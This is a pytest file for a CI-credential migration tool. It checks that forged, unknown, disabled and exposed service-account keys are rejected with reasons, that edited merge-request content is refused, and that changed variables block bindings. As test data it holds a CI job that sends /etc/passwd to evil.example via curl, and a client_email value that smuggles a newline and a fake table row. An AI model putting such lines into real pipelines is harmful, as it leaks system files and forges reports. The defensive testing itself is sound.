"""Keys are what they claim (issue 16): scan → plan on the sandbox with forged and dead keys.

acme/api holds a genuine key (k1 of deployer@). Maintainers of the other projects paste key files
that *claim* deployer@: one names k1's key id with another private key (forged), one names a key
id Google never issued, one holds k2 (disabled years ago), one holds k3 (disabled by Google
itself: EXPOSED), and one has a `client_email` with a newline and a forged table row in it. Only
acme/api may earn a binding; every other variable is an ERROR row of its own with the reason, and
the hostile value neither crashes the plan nor forges a row. Key material is generated at run time.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gitlab
import pytest
import yaml
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from migrate.cli.verbs import main
from migrate.plan import plan_io
from migrate.sandbox.launch import Sandbox
from migrate.sandbox.org import parse_org
from migrate.scan import inventory_io

SA = "deployer@acme-prod.iam.gserviceaccount.com"
CI = "deploy:\n  script:\n    - gcloud auth activate-service-account --key-file \"${VAR}\"\n    - ./deploy.sh\n"
PROJECTS = {"api": (1001, "API_KEY"), "forged": (1002, "FORGED_KEY"), "unknown": (1003, "UNKNOWN_KEY"),
            "old": (1004, "OLD_KEY"), "exposed": (1005, "EXPOSED_KEY"), "hostile": (1006, "HOSTILE_KEY")}


def org() -> Any:
    def project(name: str, sa_key: dict[str, Any] | None) -> dict[str, Any]:
        pid, var = PROJECTS[name]
        variables = [{"key": var, "variable_type": "file", "sa_key": sa_key}] if sa_key else []
        return {"path": name, "id": pid, "files": {".gitlab-ci.yml": CI.replace("VAR", var)},
                "variables": variables}

    return parse_org({
        "seed": 5,
        "gitlab": {"version": "17.5.0",
                   "users": [{"username": "migrator", "token": "tok", "admin": True}],
                   "groups": [{"path": "acme", "id": 100, "projects": [
                       project("api", {"service_account": SA, "key": "k1"}),
                       project("forged", None), project("unknown", None), project("hostile", None),
                       project("old", {"service_account": SA, "key": "k2"}),
                       project("exposed", {"service_account": SA, "key": "k3"})]}]},
        "google": {"admin_token": "g-admin", "projects": [
            {"project_id": "acme-identity", "number": 111111111111},
            {"project_id": "acme-prod", "number": 222222222222, "service_accounts": [
                {"email": SA, "keys": [{"label": "k1"}, {"label": "k2", "disabled": True},
                                       {"label": "k3", "disable_reason": "EXPOSED",
                                        "exposure": "https://github.com/acme/leak"}]}]}]},
    }, "forged keys org")


def fresh_private_pem() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption()).decode()


@pytest.fixture(scope="module")
def sb() -> Iterator[Sandbox]:
    with Sandbox(org()) as sandbox:
        real = sandbox.keys.issue(SA, "k1").key_file()
        other = fresh_private_pem()
        gl = gitlab.Gitlab(sandbox.gitlab_url, private_token="tok")
        planted = {
            "forged": {**real, "private_key": other},  # the real key id, someone else's private key
            "unknown": {**real, "private_key_id": "ab" * 20, "private_key": other},
            "hostile": {**real, "client_email": f"{SA}\nacme/evil   OK   bound", "private_key": other},
        }
        for name, content in planted.items():
            pid, var = PROJECTS[name]
            gl.projects.get(pid).variables.create({"key": var, "value": json.dumps(content),
                                                   "variable_type": "file"})
        yield sandbox


@pytest.fixture(scope="module")
def planned(sb: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    tmp = tmp_path_factory.mktemp("forged")
    cfg = tmp / "c.yaml"
    cfg.write_text(yaml.safe_dump(sb.config_dict(state_dir=str(tmp / "state"))))
    os.environ.update(sb.env())
    assert main(["scan", "-c", str(cfg), "-o", str(tmp / "inv.json")]) == 1
    code = main(["plan", "-c", str(cfg), "--inventory", str(tmp / "inv.json"), "-o", str(tmp / "plan.json")])
    assert code == 0, code  # never 3 (internal error) because of one hostile value
    return tmp, ""


def test_only_the_genuine_key_earns_a_binding(planned: tuple[Path, str]) -> None:
    tmp, _ = planned
    plan = plan_io.read(tmp / "plan.json")
    binding = next(a for a in plan.actions if a.id == f"ensure_binding:{SA}")
    assert [s.project for s in binding.params.scopes] == ["acme/api"]
    assert binding.findings == (f"project:acme/api:{PROJECTS['api'][1]}",)
    # Only acme/api's CI is rewritten, and only its variable is retired with the key.
    assert [a.target for a in plan.actions if a.kind == "merge_request"] == ["acme/api:.gitlab-ci.yml@main"]
    for action in plan.actions:
        if action.kind in ("disable_key", "delete_key"):
            assert [v.ref for v in action.params.variables] == ["project:acme/api:API_KEY"]


@pytest.mark.parametrize(("name", "reason"), [
    ("forged", "does not match Google's certificate"),
    ("unknown", "Google has no such key"),
    ("old", "the key is disabled"),
    ("exposed", "disabled by Google (EXPOSED)"),
])
def test_each_false_key_is_an_error_row_with_its_reason(planned: tuple[Path, str], name: str, reason: str) -> None:
    tmp, _ = planned
    plan = plan_io.read(tmp / "plan.json")
    rows = [m for m in plan.manual if m.subject == f"variable:project:acme/{name}:{PROJECTS[name][1]}"]
    assert rows and rows[0].severity == "error" and reason in rows[0].reason, plan.manual


def test_a_hostile_client_email_is_an_error_row_for_that_variable_only(
        planned: tuple[Path, str], capsys: pytest.CaptureFixture[str]) -> None:
    tmp, _ = planned
    inv = inventory_io.read(tmp / "inv.json")
    assert not any("\n" in v.key.service_account for v in inv.variables if v.key)
    rows = [p for p in inv.problems if p.subject == "variable:project:acme/hostile:HOSTILE_KEY"]
    assert rows and "client_email" in rows[0].reason and "acme/evil" not in rows[0].reason
    assert "acme/evil" not in (tmp / "plan.json").read_text()
    assert "acme/evil" not in (tmp / "inv.json").read_text()


def test_merge_request_content_edited_in_the_plan_is_refused_with_the_difference(
        sb: Sandbox, planned: tuple[Path, str]) -> None:
    """Issue 16: a job appended to an action's planned content was committed. Apply recomputes the
    content from the live base file with the planned options and refuses the difference, showing it."""
    import dataclasses

    from migrate.apply.merge_request_executor import MergeRequestExecutor
    from migrate.core.config import GitLabConfig, MergeRequestConfig
    from migrate.core.model import MergeRequestParams, params_as
    from migrate.gitlab.client import GitLabClients
    from migrate.gitlab.merge_requests import GitLabMergeRequests
    from migrate.plan.planner import default_rewriter

    tmp, _ = planned
    plan = plan_io.read(tmp / "plan.json")
    action = next(a for a in plan.actions if a.kind == "merge_request")
    params = params_as(action, MergeRequestParams)
    added = "\nexfiltrate:\n  script:\n    - curl -d @/etc/passwd https://evil.example\n"
    if params.files:
        forged_params = dataclasses.replace(params, files=(
            dataclasses.replace(params.files[0], new_content=params.files[0].new_content + added), *params.files[1:]))
    else:
        forged_params = dataclasses.replace(params, new_content=(params.new_content or "") + added)
    forged = dataclasses.replace(action, params=forged_params)
    forged_plan = dataclasses.replace(plan, actions=tuple(forged if a.id == action.id else a for a in plan.actions))

    def run(p: Any, a: Any) -> Any:
        clients = GitLabClients(GitLabConfig(url=sb.gitlab_url), rate_limit_rpm=6000, token="tok")
        ex = MergeRequestExecutor(GitLabMergeRequests(clients), MergeRequestConfig(), p, dry_run=True,
                                  rewriter=default_rewriter())
        return ex.execute(a)

    honest = run(plan, action)
    assert honest.outcome == "would_apply", honest
    refused = run(forged_plan, forged)
    assert refused.outcome == "refused" and "differs from the rewrite of the live file" in refused.detail
    assert "+exfiltrate:" in refused.detail and "evil.example" in refused.detail


def test_a_binding_is_refused_when_its_variable_changed_since_the_scan(
        sb: Sandbox, planned: tuple[Path, str]) -> None:
    """Apply re-reads, per binding, the variable it rests on and the projects it admits (issue 16
    §2): protection flipped, or another key pasted in, refuses the binding, naming the change."""
    from migrate.apply.live_checks import binding_refusals
    from migrate.gitlab.live_facts import GitLabLiveFacts

    tmp, _ = planned
    plan = plan_io.read(tmp / "plan.json")
    gl = gitlab.Gitlab(sb.gitlab_url, private_token="tok")
    live = GitLabLiveFacts(gl)
    assert binding_refusals(plan, live) == {}
    var = gl.projects.get(PROJECTS["api"][0]).variables.get("API_KEY", filter={"environment_scope": "*"})
    original = var.value
    try:
        gl.projects.get(PROJECTS["api"][0]).variables.update(
            "API_KEY", {"protected": True}, filter={"environment_scope": "*"})
        refused = binding_refusals(plan, live)
        assert "is protected now" in refused[f"ensure_binding:{SA}"]
        gl.projects.get(PROJECTS["api"][0]).variables.update(
            "API_KEY", {"protected": False, "value": json.dumps({**json.loads(original),
                                                                  "private_key": fresh_private_pem()})},
            filter={"environment_scope": "*"})
        assert "another private key" in binding_refusals(plan, live)[f"ensure_binding:{SA}"]
    finally:
        gl.projects.get(PROJECTS["api"][0]).variables.update(
            "API_KEY", {"protected": False, "value": original}, filter={"environment_scope": "*"})
    assert binding_refusals(plan, live) == {}
